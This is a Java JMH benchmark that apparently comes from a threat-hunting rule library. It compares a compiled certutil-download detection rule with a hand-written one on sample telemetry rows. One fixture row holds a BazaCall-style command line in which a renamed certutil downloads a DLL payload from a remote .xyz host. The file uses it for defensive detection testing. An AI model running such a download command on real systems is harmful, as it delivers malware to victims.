package dev.bazahunt.bench;

import dev.bazahunt.kql.CompiledQuery;
import dev.bazahunt.rules.CertutilDownloadRule;
import dev.bazahunt.rules.HuntRules;
import dev.bazahunt.rules.RuleCatalog;
import dev.bazahunt.rules.RuleIds;
import dev.bazahunt.telemetry.DeviceFileEvent;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.infra.Blackhole;

/**
 * The faithful rule compiled from its rule file against the hand-written oracle, on the same rows: the
 * BazaCall download (every operator runs), a benign write (the command line fails has_all) and a
 * certutil.exe row (the first filter fails). Also the whole pack's loop over a file row, as
 * RouteTelemetry runs it.
 */
@State(Scope.Thread)
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
public class CompiledRuleBenchmark {
    private final CompiledQuery compiled = RuleCatalog.standard().compiledQuery(RuleIds.CERTUTIL_DOWNLOAD);
    private final HuntRules pack = HuntRules.standard();
    private final DeviceFileEvent download = row("x8k2.exe",
            "x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll");
    private final DeviceFileEvent benign = row("chrome.exe",
            "\"chrome.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US");
    private final DeviceFileEvent certutil = row("certutil.exe",
            "certutil.exe -urlcache -split -f http://crl.example/x.crl");

    private static DeviceFileEvent row(String fileName, String commandLine) {
        DeviceFileEvent event = new DeviceFileEvent();
        event.deviceId = "b2c4e6a8f0123456789abcdef0123456789abcde";
        event.initiatingProcessFileName = fileName;
        event.initiatingProcessCommandLine = commandLine;
        return event;
    }

    @Benchmark
    public boolean compiledOnDownload() {
        return compiled.matches(download);
    }

    @Benchmark
    public boolean handWrittenOnDownload() {
        return CertutilDownloadRule.matches(download);
    }

    @Benchmark
    public boolean compiledOnBenignWrite() {
        return compiled.matches(benign);
    }

    @Benchmark
    public boolean handWrittenOnBenignWrite() {
        return CertutilDownloadRule.matches(benign);
    }

    @Benchmark
    public boolean compiledOnCertutil() {
        return compiled.matches(certutil);
    }

    @Benchmark
    public boolean handWrittenOnCertutil() {
        return CertutilDownloadRule.matches(certutil);
    }

    /** Every file rule of the pack on one download row, as the job's loop offers it. */
    @Benchmark
    public void packLoopOnDownload(Blackhole blackhole) {
        for (HuntRules.CompiledRule rule : pack.forTable(download.table())) {
            blackhole.consume(rule.query().matches(download));
        }
    }
}
